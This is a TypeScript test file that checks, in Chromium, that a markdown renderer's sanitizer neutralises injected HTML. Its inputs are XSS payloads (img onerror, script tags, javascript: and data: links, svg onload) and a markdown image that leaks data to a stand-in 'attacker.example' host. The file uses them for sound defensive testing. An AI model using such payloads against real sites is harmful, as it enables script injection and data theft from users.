/**
 * The markdown sanitizer in real Chromium (DOMPurify needs a real DOM, and the point is what a
 * browser would do with the output): the HTML is inserted the way {@html} inserts it, then the
 * test checks which elements exist and whether any injected script ran.
 */
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { chromiumMissingReason, launchChromium } from '../../e2e/support/chromium';
import { bundle, openHarness, type HarnessPage } from './support/browser-harness';

const missing = chromiumMissingReason();
if (missing) console.warn(`markdown sanitizer tests skipped: ${missing}`);

interface Rendered {
  html: string;
  tags: string[];
  hrefs: (string | null)[];
  attributes: string[];
  pwned: unknown;
}

describe.skipIf(missing !== undefined)('renderMarkdown in Chromium', () => {
  let browser: Browser;
  let harness: HarnessPage;

  beforeAll(async () => {
    const code = await bundle('test/unit/renderer/support/markdown-entry.ts');
    browser = await launchChromium();
    harness = await openHarness(browser, code);
  }, 60_000);
  afterAll(async () => {
    await browser?.close();
  });

  /** Render, insert into the page like {@html}, give any handler a chance to fire, and report. */
  async function render(markdown: string): Promise<Rendered> {
    return harness.page.evaluate(async (md) => {
      const w = window as unknown as { renderMarkdown: (s: string) => string; __pwned?: unknown };
      delete w.__pwned;
      const html = w.renderMarkdown(md);
      const host = document.getElementById('app')!;
      host.innerHTML = html;
      await new Promise((r) => setTimeout(r, 50));
      const all = [...host.querySelectorAll('*')];
      return {
        html,
        tags: all.map((e) => e.tagName.toLowerCase()),
        hrefs: [...host.querySelectorAll('a')].map((a) => a.getAttribute('href')),
        attributes: all.flatMap((e) => [...e.attributes].map((a) => a.name)),
        pwned: w.__pwned,
      };
    }, markdown);
  }

  it('keeps ordinary markdown: emphasis, code, lists, tables and web links', async () => {
    const out = await render('**bold** and `code`\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n[docs](https://example.com/docs)');
    expect(out.tags).toEqual(expect.arrayContaining(['strong', 'code', 'ul', 'li', 'table', 'td', 'a']));
    expect(out.hrefs).toEqual(['https://example.com/docs']);
    expect(out.html).toContain('rel="noopener noreferrer"');
  });

  it('shows <img src=x onerror=…> as text: no img element, no handler, nothing ran', async () => {
    const out = await render('Look: <img src=x onerror="window.__pwned=1">');
    expect(out.tags).not.toContain('img');
    expect(out.attributes).not.toContain('onerror');
    expect(out.pwned).toBeUndefined();
    expect(out.html).toContain('&lt;img src=x onerror="window.__pwned=1"&gt;');
  });

  it('never creates a script element, inline or as a block', async () => {
    const inline = await render('hi <script>window.__pwned=2</script> there');
    const block = await render('<script>\nwindow.__pwned=3\n</script>');
    for (const out of [inline, block]) {
      expect(out.tags).not.toContain('script');
      expect(out.pwned).toBeUndefined();
    }
  });

  it('drops javascript:, data: and relative link targets but keeps the link text', async () => {
    const out = await render('[a](javascript:window.__pwned=4) [b](JaVaScRiPt:alert(1)) [c](data:text/html,<b>x</b>) [d](/etc/passwd) [e](http://127.0.0.1:1/x)');
    expect(out.hrefs).toEqual([null, null, null, null, 'http://127.0.0.1:1/x']);
    expect(out.html).not.toMatch(/javascript:/i);
    expect(out.pwned).toBeUndefined();
  });

  it('does not load markdown images (their URL could carry data out) and says what was there', async () => {
    const out = await render('![secret](https://attacker.example/leak?d=abc) ![](data:image/png;base64,AAAA)');
    expect(out.tags).not.toContain('img');
    expect(out.html).toContain('[image: secret]');
  });

  it('strips styles, event handlers, forms and frames even when built from markdown-escaped HTML', async () => {
    const out = await render('<a href="https://ok.example" onclick="window.__pwned=5" style="color:red">x</a><iframe src="https://x"></iframe><form><input></form><svg onload="window.__pwned=6"></svg>');
    expect(out.tags).not.toEqual(expect.arrayContaining(['iframe']));
    expect(out.tags.filter((t) => ['iframe', 'form', 'input', 'svg'].includes(t))).toEqual([]);
    expect(out.attributes.filter((a) => a.startsWith('on') || a === 'style')).toEqual([]);
    expect(out.pwned).toBeUndefined();
  });

  it('hands a clicked web link to the caller instead of navigating, and ignores a link without one', async () => {
    const result = await harness.page.evaluate(() => {
      const w = window as unknown as { renderMarkdown: (s: string) => string; clickedLink: (e: MouseEvent) => string | undefined };
      const host = document.getElementById('app')!;
      host.innerHTML = w.renderMarkdown('[go](https://example.com/a) [bad](javascript:alert(1))');
      const seen: (string | undefined)[] = [];
      const prevented: boolean[] = [];
      host.addEventListener('click', (e) => {
        seen.push(w.clickedLink(e));
        prevented.push(e.defaultPrevented);
      });
      for (const a of host.querySelectorAll('a')) a.click();
      return { seen, prevented, url: location.href };
    });
    expect(result.seen).toEqual(['https://example.com/a', undefined]);
    expect(result.prevented).toEqual([true, true]);
    expect(result.url).toBe('http://harness.test/');
  });

  it('raised no CSP violation and no page error', async () => {
    expect(await harness.violations()).toEqual([]);
    expect(harness.errors).toEqual([]);
  });
});
